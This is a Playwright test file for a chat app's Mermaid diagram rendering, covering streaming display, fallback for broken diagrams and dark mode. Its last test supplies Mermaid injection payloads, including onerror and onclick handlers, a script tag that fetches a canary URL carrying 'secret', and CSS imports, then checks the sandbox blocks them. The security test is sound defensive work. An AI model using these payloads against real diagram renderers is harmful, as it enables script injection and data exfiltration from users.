import type { Locator } from "@playwright/test";
import { askAnything } from "./ask-anything";
import { startCanary } from "./canary";
import { settled } from "./chat-page";
import { expect } from "./fixtures";
import { test } from "./scripted-fixture";
import { citedText } from "./scripted-google";
import { answered, reopened } from "./scripted-reply";

test.describe("8 a diagram", () => {
  const river = 'flowchart LR\n  A["Lake Victoria"] --> B[Nile] --> C[Mediterranean]';
  const fence = (text: string) => `It flows:\n\n\`\`\`mermaid\n${text}\n\`\`\`\n\nThat is all.\n`;
  const frameOf = (reply: Locator) => reply.frameLocator("iframe[title='Diagram']");

  test("is its code while it comes, then drawn, and its code again on request @phone", async ({
    page,
    google,
  }) => {
    const goOn = google.holdAnnotations();
    google.answerWith(
      citedText(fence(river), [
        { words: "That is all.", url: "https://nile.example/", title: "nile.example" },
      ]),
    );
    const reply = await askAnything(page);
    await expect(reply.getByText("That is all.")).toBeVisible();
    await expect(reply.locator("pre")).toBeVisible();
    await expect(reply.locator("iframe")).toHaveCount(0);
    goOn();
    await settled(reply);
    await expect(frameOf(reply).getByText("Lake Victoria")).toBeVisible();
    await expect(reply.locator("pre")).toBeHidden();
    const showCode = reply.getByRole("button", { name: "Show code" });
    await showCode.click();
    await expect(showCode).toHaveAttribute("aria-pressed", "true");
    await expect(reply.locator("pre")).toHaveText(river);
    await expect(reply.locator("[data-diagram]")).toHaveAttribute("aria-hidden", "true");
    await showCode.click();
    await expect(showCode).toHaveAttribute("aria-pressed", "false");
    await expect(reply.locator("[data-diagram]")).toHaveAttribute("aria-hidden", "false");
    await expect(reply.locator("pre")).toBeHidden();
    const again = await reopened(page);
    await expect(frameOf(again).getByText("Mediterranean")).toBeVisible();
    const isCut = () =>
      again.locator("iframe").evaluate((frame) => frame.clientHeight < 30 || frame.clientWidth < 200);
    await expect.poll(isCut).toBe(false);
  });

  test("that is wrong is its code and a sentence", async ({ page, google }) => {
    const reply = await answered(page, google, fence("flowchart LR\n  A[[[ --> ???"));
    await expect(reply.getByText("This diagram could not be drawn, so its code is shown.")).toBeVisible();
    await expect(reply.locator("pre")).toBeVisible();
    await expect(reply.locator("iframe")).toHaveCount(0);
  });

  test("follows the page into the dark", async ({ page, google }) => {
    await page.emulateMedia({ colorScheme: "light" });
    const reply = await answered(page, google, fence(river));
    const words = frameOf(reply).getByText("Lake Victoria");
    const scheme = () => words.evaluate(() => getComputedStyle(document.documentElement).colorScheme);
    await expect.poll(scheme).toBe("light");
    await page.emulateMedia({ colorScheme: "dark" });
    await expect.poll(scheme).toBe("dark");
  });

  test.describe("of somebody hostile", () => {
    test.use({
      expectedConsole: [/Blocked|Refused|sandboxed|Content Security Policy|violates|Unsafe attempt/],
      expectedViolations: [/./],
    });

    test("HD-05 runs nothing, asks nobody and leads nowhere, whatever is in it", async ({
      page,
      context,
      google,
    }) => {
      const canary = await startCanary();
      const evil = `${canary.url}?d=secret`;
      const texts = [
        `%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${evil}); * { background: url(${evil}) }"}}%%\nflowchart LR\n  A["<img src='${evil}' onerror='parent.postMessage(1)'>"] --> B["<b onclick=alert(1)>x</b>"]\n  click A "${evil}" _top\n  click B call alert()`,
        `flowchart LR\n  A@{ img: "${evil}", label: "x" } --> B["<script>fetch('${evil}')</script>y"]`,
        `sequenceDiagram\n  participant A\n  link A: Go @ ${evil}\n  A->>A: <iframe src="${evil}"></iframe>`,
      ];
      for (const text of texts) {
        google.answerWith(citedText(fence(text), [], 40));
        const reply = await askAnything(page);
        await settled(reply);
        await expect(
          reply.getByRole("button", { name: "Show code" }).or(reply.getByText("could not be drawn")),
        ).toBeVisible();
        for (const frame of page.frames().slice(1)) {
          expect(await frame.locator("a[href], script[src], iframe").count()).toBe(0);
          expect(await frame.evaluate(() => origin)).toBe("null");
        }
      }
      expect(context.pages()).toHaveLength(1);
      expect(canary.hits(), "nobody was asked").toBe(0);
      canary.close();
    });
  });
});
